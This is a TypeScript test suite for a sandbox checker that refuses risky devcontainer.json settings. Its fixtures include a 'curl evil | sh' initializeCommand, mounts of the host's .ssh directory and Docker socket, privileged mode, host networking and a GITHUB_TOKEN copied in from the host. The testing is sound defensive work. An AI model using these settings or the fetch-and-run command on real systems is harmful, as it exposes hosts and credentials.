import assert from 'node:assert/strict';
import {
  checkDevcontainer,
  describeRefusals,
  parseMemory,
  parseMountSpec,
  type DevcontainerAllowances,
  type DevcontainerCheck,
} from '../../src/core/sandbox/devcontainerCheck';
import { buildSandboxConfig } from '../../src/core/sandbox/sandboxConfig';

const FILE = '.devcontainer/devcontainer.json';

function checked(config: unknown, allow: DevcontainerAllowances = {}): DevcontainerCheck {
  const result = checkDevcontainer(JSON.stringify(config, null, 2), FILE, allow);
  assert.equal(result.kind, 'checked', result.kind === 'syntaxError' ? result.message : '');
  return result as DevcontainerCheck;
}

function refusedWhere(config: unknown, allow: DevcontainerAllowances = {}): string[] {
  return checked(config, allow).refusals.map((refusal) => refusal.where);
}

describe('sandbox devcontainer.json check', () => {
  describe('syntax', () => {
    it('accepts comments and trailing commas', () => {
      const result = checkDevcontainer('// dev container\n{\n  "image": "node:20", /* pinned */\n  "runArgs": ["--init",],\n}\n', FILE);
      assert.equal(result.kind, 'checked');
      assert.deepEqual((result as DevcontainerCheck).refusals, []);
      assert.deepEqual((result as DevcontainerCheck).runArgs, ['--init']);
    });

    it('names the file, line and column of a syntax error', () => {
      const result = checkDevcontainer('{\n  "image": "node:20"\n  "runArgs": []\n}\n', FILE);
      assert.equal(result.kind, 'syntaxError');
      if (result.kind !== 'syntaxError') return;
      assert.equal(result.line, 3);
      assert.equal(result.column, 3);
      assert.match(result.message, /\.devcontainer\/devcontainer\.json has a syntax error at line 3, column 3: comma expected/);
      assert.match(result.message, /Fix the file/);
    });

    it('refuses a file that is not one object', () => {
      const result = checkDevcontainer('["image"]', FILE);
      assert.equal(result.kind, 'syntaxError');
      assert.match((result as { message: string }).message, /must contain one JSON object.*an array/);
    });
  });

  describe('refusals', () => {
    it('refuses privileged, in the property and in runArgs, with the reason', () => {
      const check = checked({ image: 'x', privileged: true, runArgs: ['--privileged'] });
      assert.deepEqual(
        check.refusals.map((r) => r.where),
        ['privileged', 'runArgs: --privileged'],
      );
      assert.match(check.refusals[0]!.reason, /every capability/);
      assert.equal(check.refusals[0]!.allowedBy, 'allowPrivileged');
      assert.match(describeRefusals(check), /policy can allow it with allowPrivileged/);
    });

    it('refuses the host network in both spellings', () => {
      assert.deepEqual(refusedWhere({ image: 'x', runArgs: ['--network=host', '--net', 'host'] }), [
        'runArgs: --network=host',
        'runArgs: --net host',
      ]);
    });

    it('refuses host pid, ipc, uts, cgroup and user namespaces', () => {
      const where = refusedWhere({
        image: 'x',
        runArgs: ['--pid=host', '--ipc', 'host', '--uts=host', '--cgroupns=host', '--userns=host', '--pid=container:db'],
      });
      assert.equal(where.length, 6);
    });

    it('refuses added capabilities, one by one', () => {
      const check = checked({ image: 'x', capAdd: ['SYS_PTRACE', 'CAP_NET_ADMIN'], runArgs: ['--cap-add=SYS_ADMIN'] });
      assert.deepEqual(
        check.refusals.map((r) => r.reason),
        ['adds the Linux capability SYS_PTRACE', 'adds the Linux capability NET_ADMIN', 'adds the Linux capability SYS_ADMIN'],
      );
    });

    it('refuses extra host mounts in every form', () => {
      const where = refusedWhere({
        image: 'x',
        mounts: [
          'source=/home/me/.ssh,target=/root/.ssh,type=bind',
          { source: '/etc', target: '/host-etc', type: 'bind' },
          'source=shared-cache,target=/cache,type=volume',
        ],
        runArgs: ['-v', '/:/host', '--volume=/srv:/srv:ro', '--mount', 'type=bind,src=/opt,dst=/opt', '-v/tmp:/tmp'],
      });
      assert.deepEqual(where, [
        'mounts[0]',
        'mounts[1]',
        'mounts[2]',
        'runArgs: -v /:/host',
        'runArgs: --volume=/srv:/srv:ro',
        'runArgs: --mount type=bind,src=/opt,dst=/opt',
        'runArgs: -v/tmp:/tmp',
      ]);
    });

    it('names the docker socket as the engine socket, and a glob in allowMounts does not reach it', () => {
      const check = checked(
        {
          image: 'x',
          mounts: ['source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind'],
          runArgs: ['-v', '/run/podman/podman.sock:/run/docker.sock'],
        },
        { allowMounts: ['/**'] },
      );
      assert.equal(check.refusals.length, 2);
      assert.match(check.refusals[0]!.reason, /engine's socket/);
    });

    it('refuses a workspaceMount that points elsewhere', () => {
      const check = checked({ image: 'x', workspaceMount: 'source=/home/me/project,target=/work,type=bind' });
      assert.match(check.refusals[0]!.reason, /only the worktree/);
    });

    it('accepts a workspaceMount of the workspace folder and keeps its target', () => {
      const check = checked({ image: 'x', workspaceMount: 'source=${localWorkspaceFolder},target=/app,type=bind,consistency=cached' });
      assert.deepEqual(check.refusals, []);
      assert.equal(check.workspaceFolder, '/app');
    });

    it('refuses initializeCommand, which runs on the host', () => {
      const check = checked({ image: 'x', initializeCommand: 'curl evil | sh' });
      assert.deepEqual(
        check.refusals.map((r) => [r.where, r.allowedBy]),
        [['initializeCommand', 'allowInitializeCommand']],
      );
    });

    it('refuses security options, devices, GPUs, published ports and host files', () => {
      const where = refusedWhere({
        image: 'x',
        securityOpt: ['seccomp=unconfined'],
        hostRequirements: { gpu: 'optional' },
        runArgs: [
          '--security-opt',
          'apparmor=unconfined',
          '--device=/dev/kvm',
          '--gpus',
          'all',
          '-p',
          '8080:80',
          '--env-file',
          '/home/me/.env',
          '--name',
          'fixed',
        ],
      });
      assert.deepEqual(where, [
        'securityOpt[0]: seccomp=unconfined',
        'runArgs: --security-opt apparmor=unconfined',
        'runArgs: --device=/dev/kvm',
        'runArgs: --gpus all',
        'runArgs: -p 8080:80',
        'runArgs: --env-file /home/me/.env',
        'runArgs: --name fixed',
        'hostRequirements.gpu',
      ]);
    });

    it('refuses run flags it does not know, and stray values', () => {
      const check = checked({ image: 'x', runArgs: ['--some-new-flag=1', 'stray'] });
      assert.equal(check.refusals.length, 2);
      assert.match(check.refusals[0]!.reason, /not one of the run flags/);
      assert.match(check.refusals[1]!.reason, /is not a flag/);
    });

    it('refuses reading host environment variables into the container', () => {
      const check = checked({
        image: 'x',
        containerEnv: { TOKEN: '${localEnv:GITHUB_TOKEN}' },
        customizations: { vscode: { settings: { a: '${localEnv:HOME}' } } },
      });
      assert.deepEqual(
        check.refusals.map((r) => r.where),
        ['containerEnv.TOKEN'],
      );
      assert.match(check.refusals[0]!.reason, /GITHUB_TOKEN/);
    });

    it('leaves Docker Compose configurations to the Compose check (composeCheck.ts)', () => {
      assert.deepEqual(refusedWhere({ dockerComposeFile: 'compose.yml', service: 'app' }), []);
    });

    it('refuses build options that hand host secrets or the host network to the build', () => {
      assert.deepEqual(
        refusedWhere({
          build: { dockerfile: 'Dockerfile', options: ['--secret', 'id=npm,src=/home/me/.npmrc', '--network=host', '--build-arg', 'A=1'] },
        }),
        ['build.options: --secret', 'build.options: id=npm,src=/home/me/.npmrc', 'build.options: --network=host'],
      );
    });
  });

  describe('policy exceptions', () => {
    it('allows exactly what policy allows and records it', () => {
      const check = checked(
        {
          image: 'x',
          privileged: true,
          capAdd: ['SYS_PTRACE'],
          mounts: ['source=/opt/cache,target=/cache,type=bind,readonly'],
          initializeCommand: 'echo hi',
          runArgs: ['--network=host', '--cap-add', 'NET_ADMIN'],
        },
        {
          allowPrivileged: true,
          allowCapAdd: ['CAP_SYS_PTRACE'],
          allowMounts: ['/opt/**'],
          allowInitializeCommand: true,
          allowHostNetwork: true,
        },
      );
      assert.deepEqual(
        check.refusals.map((r) => r.where),
        ['runArgs: --cap-add NET_ADMIN'],
      );
      assert.deepEqual(
        check.allowed.map((r) => r.where),
        ['initializeCommand', 'privileged', 'capAdd[0]', 'mounts[0]', 'runArgs: --network=host'],
      );
      assert.equal(check.hostNetwork, true);
      assert.deepEqual(check.mounts, [{ where: 'mounts[0]', type: 'bind', source: '/opt/cache', target: '/cache', readonly: true }]);
    });

    it('allows the docker socket only when listed exactly', () => {
      const check = checked(
        { image: 'x', mounts: ['source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind'] },
        { allowMounts: ['/var/run/docker.sock'] },
      );
      assert.deepEqual(check.refusals, []);
      assert.equal(check.allowed.length, 1);
    });
  });

  describe('what the sandbox takes over', () => {
    it('keeps safe run flags, drops network none and takes the smaller limits', () => {
      const check = checked({
        image: 'x',
        runArgs: ['--init', '-e', 'A=1', '--network=none', '--cpus=4', '--memory', '512m', '--pids-limit=100', '--network=bridge'],
      });
      assert.deepEqual(check.refusals, []);
      assert.deepEqual(check.runArgs, ['--init', '-e', 'A=1']);
      assert.deepEqual(check.limits, { cpus: 4, memoryBytes: 512 * 1024 * 1024, pids: 100 });
      assert.match(check.notes.join('\n'), /--network=bridge is ignored/);
      const sandbox = buildSandboxConfig(check, {
        worktreePath: '/data/worktrees/ab12cd34',
        defaultImage: 'unused',
        creationNetwork: 'none',
        limits: { cpus: 2, memoryMb: 1024, pids: 512 },
        labels: { 'dev.agentlanes.change': 'ab12cd34' },
      });
      assert.deepEqual(sandbox.config.runArgs, [
        '--init',
        '-e',
        'A=1',
        '--network=none',
        '--cpus=2',
        `--memory=${512 * 1024 * 1024}b`,
        '--pids-limit=100',
        '--label=dev.agentlanes.change=ab12cd34',
      ]);
      assert.equal(sandbox.config.workspaceMount, 'type=bind,source=/data/worktrees/ab12cd34,target=/workspaces/ab12cd34');
      assert.equal(sandbox.config.image, 'x');
    });

    it('refuses a limit it cannot read', () => {
      assert.match(checked({ image: 'x', runArgs: ['--memory=lots'] }).refusals[0]!.reason, /does not understand \(lots\)/);
    });

    it('generates a configuration around the default image when the repository has none', () => {
      const sandbox = buildSandboxConfig(undefined, {
        worktreePath: '/w/t',
        defaultImage: 'localhost/img:1',
        creationNetwork: 'bridge',
        limits: {},
        labels: {},
      });
      assert.deepEqual(sandbox.config, {
        image: 'localhost/img:1',
        updateRemoteUserUID: false,
        workspaceMount: 'type=bind,source=/w/t,target=/workspaces/t',
        workspaceFolder: '/workspaces/t',
        runArgs: [],
      });
    });

    it('points a build at the base Dockerfile and builds with the preparation network', () => {
      const check = checked({ build: { dockerfile: 'Dockerfile', context: '..', options: ['--network=bridge', '--pull'] } });
      const sandbox = buildSandboxConfig(check, {
        worktreePath: '/w/t',
        defaultImage: 'x',
        creationNetwork: 'none',
        limits: {},
        labels: {},
        dockerfilePath: '/private/Dockerfile',
        buildContext: '/w/t',
      });
      assert.deepEqual(sandbox.config.build, { dockerfile: '/private/Dockerfile', context: '/w/t', options: ['--pull', '--network=none'] });
    });

    it('refuses to build a configuration that still has refusals, or a worktree path a mount cannot name', () => {
      assert.throws(
        () =>
          buildSandboxConfig(checked({ image: 'x', privileged: true }), {
            worktreePath: '/w',
            defaultImage: 'x',
            creationNetwork: 'none',
            limits: {},
            labels: {},
          }),
        /without refusals/,
      );
      assert.throws(
        () => buildSandboxConfig(undefined, { worktreePath: '/w/a,b', defaultImage: 'x', creationNetwork: 'none', limits: {}, labels: {} }),
        /contains a comma/,
      );
    });
  });

  describe('helpers', () => {
    it('reads memory sizes', () => {
      assert.equal(parseMemory('512m'), 512 * 1024 ** 2);
      assert.equal(parseMemory('2G'), 2 * 1024 ** 3);
      assert.equal(parseMemory('1.5gb'), 1.5 * 1024 ** 3);
      assert.equal(parseMemory('1024'), 1024);
      assert.equal(parseMemory('lots'), undefined);
    });

    it('reads mount specs in both syntaxes', () => {
      assert.deepEqual(parseMountSpec('/a:/b:ro', true), { type: 'bind', source: '/a', target: '/b', readonly: true });
      assert.deepEqual(parseMountSpec('cache:/c', true), { type: 'volume', source: 'cache', target: '/c', readonly: false });
      assert.deepEqual(parseMountSpec('/anon', true), { type: 'volume', source: '', target: '/anon', readonly: false });
      assert.deepEqual(parseMountSpec('type=bind,source=/a,target=/b,readonly', false), {
        type: 'bind',
        source: '/a',
        target: '/b',
        readonly: true,
      });
    });

    it('lets anonymous volumes and tmpfs through', () => {
      const check = checked({ image: 'x', mounts: ['type=tmpfs,target=/scratch'], runArgs: ['-v', '/node_modules', '--tmpfs', '/run'] });
      assert.deepEqual(check.refusals, []);
      assert.deepEqual(check.runArgs, ['-v', '/node_modules', '--tmpfs', '/run']);
    });
  });
});
